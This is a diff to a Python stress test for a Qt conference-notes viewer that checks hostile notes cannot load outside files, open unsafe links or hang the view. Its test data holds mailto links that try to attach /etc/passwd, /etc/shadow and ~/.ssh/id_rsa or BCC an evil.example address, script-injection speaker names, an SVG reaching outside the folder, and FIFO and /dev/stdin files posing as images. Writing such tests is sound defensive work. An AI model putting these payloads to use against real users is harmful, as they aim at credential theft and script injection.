@@ -13,7 +13,12 @@ reference links, autolinks) and into the talk's title, speakers and links. Each 
   image inside the notes folder must come back empty, and a direct request for a file as
   a stylesheet or HTML resource must not return its bytes; every link in the page, plus
   hostile URLs, is clicked, with QDesktopServices.openUrl replaced by a recorder: only
-  http, https and mailto may reach it.
+  http, https and mailto may reach it, and a mailto: only with addresses, subject and body;
+* special files: notes images that are an SVG pointing at a photo outside the folder (by
+  absolute and relative path), a FIFO and a link to /dev/stdin named like images: the SVG
+  shows without the photo, the others as blanks, and the view never blocks on them;
+* tooltips: the tree's speaker tooltips, holding `<img src=…>` (one pointing at the FIFO),
+  read back as the plain names, and Qt is asked for no resource while showing them.
 """
 
 from __future__ import annotations
@@ -75,7 +80,11 @@ REMOTE_IMAGES = [
     "data:image/png;base64,iVBORw0KGgo=", "outside.png", "ftp://evil.example/x.png",
 ]
 GOOD_URLS = ["https://example.org/talk", "http://example.org/", "mailto:jane@example.org",
-             "#section"]
+             "#section", "mailto:jane@example.org?attach=/etc/passwd&subject=Hi&bcc=x@evil.example",
+             "mailto:?Attach=~/.ssh/id_rsa", "mailto:jane@example.org%3Fattach=/etc/shadow"]
+# notes "images" that try to reach out or block: see _special_files
+SPECIAL_IMAGES = ["diagram.svg", "fifo.png", "stdin.png"]
+MAILTO_FIELDS = {"subject", "body"}
 CONTEXTS = ["{}", "- {}", "1. {}", "> {}", "# {}", "| {} | x |\n|---|---|\n| a | b |",
             "**{}**", "*{}*", "Text {} text", "    {}", "```\n{}\n```", "- - {}"]
 
@@ -97,13 +106,15 @@ def _payload(rng: random.Random, image_ok: str) -> str:
 
 def make_talk(rng: random.Random, notes_dir: Path, number: int) -> Talk:
     """Return a talk whose every field carries hostile text."""
-    parts = [rng.choice(CONTEXTS).format(_payload(rng, "slide.png"))
+    parts = [rng.choice(CONTEXTS).format(_payload(rng, rng.choice(["slide.png",
+                                                                    *SPECIAL_IMAGES])))
              for _ in range(rng.randint(1, 8))]
     title = f"Talk {number} " + rng.choice(["", *SCRIPTS[:4], "<b>bold</b>", "&lt;i&gt;"])
     link = Link(rng.choice(["slides", "<script>x</script>", ""]), rng.choice(BAD_URLS + GOOD_URLS))
     return Talk(
         id=talk_id("Evil Conf", f"talk {number}"), title=title, conference="Evil Conf",
-        speakers=(Speaker(rng.choice(["Jane <img src=x onerror=alert(1)>", "Bob"]),
+        speakers=(Speaker(rng.choice(["Jane <img src=x onerror=alert(1)>", "Bob",
+                                      f"<img src='{notes_dir / 'fifo.png'}'> Eve"]),
                           rng.choice([None, "<script>1</script>"])),),
         links=(link,), body="\n\n".join(parts),
         source=SourceRef(str(notes_dir / "evil.md"), 1),
@@ -132,6 +143,8 @@ class _Page(HTMLParser):
                 scheme = urlsplit(value.strip()).scheme.lower()
                 if not value.startswith("#") and scheme not in LINK_SCHEMES:
                     self.problems.append(f"link to {value[:80]!r}")
+                elif scheme == "mailto" and _mail_fields(value) - MAILTO_FIELDS:
+                    self.problems.append(f"mail link asks for {value[:80]!r}")
             elif name == "src" and not self._local_image(value):
                 self.problems.append(f"<{tag}> loads {value[:80]!r}")
 
@@ -141,6 +154,13 @@ class _Page(HTMLParser):
             return False
         path = Path(unquote(parts.path)).resolve()
         return path.is_relative_to(self.notes_dir) and path.is_file()
+
+
+def _mail_fields(url: str) -> set[str]:
+    """Return the fields a mailto: URL hands the mail client, an encoded "?" included."""
+    parts = urlsplit(url.strip())
+    query = parts.query + "&" + unquote(parts.path).partition("?")[2]
+    return {field.partition("=")[0].lower() for field in query.split("&") if field}
 
 
 def check_html(page: str, notes_dir: Path) -> tuple[list[str], list[str]]:
@@ -239,9 +259,67 @@ def _click_everything(probe: _ViewProbe, links: list[str]) -> list[str]:
     from PySide6.QtCore import QUrl
 
     probe.opened.clear()
-    for href in links + BAD_URLS:
+    for href in links + BAD_URLS + GOOD_URLS:
         probe.view.browser.anchorClicked.emit(QUrl(href))
-    return [url for url in probe.opened if urlsplit(url).scheme.lower() not in EXTERNAL]
+    return [url for url in probe.opened if urlsplit(url).scheme.lower() not in EXTERNAL
+            or (url.lower().startswith("mailto:") and _mail_fields(url) - MAILTO_FIELDS)]
+
+
+def _special_files(notes_dir: Path, outside: Path) -> None:
+    """Put an SVG that points outside, a FIFO and a link to /dev/stdin among the notes."""
+    import os
+
+    (notes_dir / "diagram.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
+        'width="16" height="16"><rect width="16" height="8" fill="#3366cc"/>'
+        f'<image xlink:href="{outside}" y="8" width="16" height="8"/>'
+        f'<image href="../{outside.name}" y="8" width="16" height="8"/>'
+        f'<rect y="8" width="16" height="8" fill="url({outside.with_suffix(".svg")}#p)"/></svg>')
+    os.mkfifo(notes_dir / "fifo.png")  # opened for reading, it waits for a writer for ever
+    os.symlink("/dev/stdin", notes_dir / "stdin.png")
+
+
+def _svg_problems(probe: _ViewProbe, counts: dict[str, int]) -> list[str]:
+    """Return the SVG loads that drew the outside photo (its red)."""
+    from PySide6.QtGui import QColor, QImage
+
+    problems = []
+    for _, url, result in probe.loads:
+        if url.endswith("diagram.svg") and isinstance(result, QImage) and result.width() > 1:
+            counts["SVGs drawn"] += 1
+            if any(QColor(result.pixel(x, y)).red() > 200 and QColor(result.pixel(x, y)).blue()
+                   < 60 for x in range(0, result.width(), 3)
+                   for y in range(0, result.height(), 3)):
+                problems.append(f"the SVG drew an image from outside the notes ({url[-40:]})")
+    return problems
+
+
+def _tooltip_problems(conference: Conference) -> list[str]:
+    """Show every speaker tooltip in a document that records what it is asked to load."""
+    from PySide6.QtCore import Qt
+    from PySide6.QtGui import QTextDocument
+
+    from confbrowser.core.model import Library
+    from confbrowser.ui.treemodel import TalkTreeModel
+
+    class Recording(QTextDocument):
+        loads: list[str] = []
+
+        def loadResource(self, kind: int, name: Any) -> Any:  # noqa: N802 (Qt API)
+            self.loads.append(name.toString())
+            return None
+
+    model = TalkTreeModel(Library(conferences=(conference,)))
+    problems = []
+    for talk in conference.talks:
+        tip = model.index_for_talk(talk.id).data(Qt.ItemDataRole.ToolTipRole) or ""
+        document = Recording()
+        document.setHtml(tip)
+        names = ", ".join(s.name for s in talk.speakers)
+        if document.toPlainText() != names or document.loads:
+            problems.append(f"tooltip {names[:40]!r} shown as {document.toPlainText()[:40]!r}, "
+                            f"loading {document.loads[:2]}")
+    return problems
 
 
 def run(scale: int = FULL) -> dict[str, Any]:
@@ -251,12 +329,13 @@ def run(scale: int = FULL) -> dict[str, Any]:
     app = QApplication.instance() or QApplication([])
     outcome = Outcome("rendering safety: hostile notes")
     rng = random.Random(SEED)
-    counts = {"links clicked": 0, "opened externally": 0, "resource loads": 0}
+    counts = {"links clicked": 0, "opened externally": 0, "resource loads": 0, "SVGs drawn": 0}
     with timed(outcome), tempfile.TemporaryDirectory(prefix="confbrowser-stress-") as tmp:
         notes_dir = Path(tmp, "notes")
         notes_dir.mkdir()
         _write_png(notes_dir / "slide.png")
-        _write_png(Path(tmp) / "outside.png")
+        _write_png(Path(tmp) / "outside.png", 0xFFFF0000)
+        _special_files(notes_dir, Path(tmp) / "outside.png")
         secret = Path(tmp) / "secret.css"
         secret.write_text("SECRET p { color: red }")
         probe = _ViewProbe(notes_dir)
@@ -275,12 +354,19 @@ def run(scale: int = FULL) -> dict[str, Any]:
                 probe.view.show_talk(talk, conference=conference)
                 app.processEvents()
                 counts["resource loads"] += len(probe.loads)
+                for problem in _svg_problems(probe, counts):
+                    outcome.fail(f"{talk.title[:30]!r}: {problem}")
                 for problem in probe.fetched_something():
                     outcome.fail(f"{talk.title[:30]!r}: {problem}")
                 for url in _click_everything(probe, links):
                     outcome.fail(f"{talk.title[:30]!r}: opened {url[:80]!r} externally")
                 counts["links clicked"] += len(links) + len(BAD_URLS)
                 counts["opened externally"] += len(probe.opened)
+            for problem in _tooltip_problems(conference):
+                outcome.fail(problem)
+            counts["tooltips shown"] = len(talks)
+            counts["special images asked for"] = sum(
+                page.count(name) for _, page in pages for name in SPECIAL_IMAGES)
         except Exception as exc:  # noqa: BLE001 - the very thing this scenario counts
             outcome.crash(f"{type(exc).__name__}: {exc}")
         finally:
@@ -290,9 +376,9 @@ def run(scale: int = FULL) -> dict[str, Any]:
     return outcome.as_dict()
 
 
-def _write_png(path: Path) -> None:
+def _write_png(path: Path, colour: int = 0xFF3366CC) -> None:
     from PySide6.QtGui import QImage
 
     image = QImage(8, 8, QImage.Format.Format_ARGB32)
-    image.fill(0xFF3366CC)
+    image.fill(colour)
     image.save(str(path), "PNG")
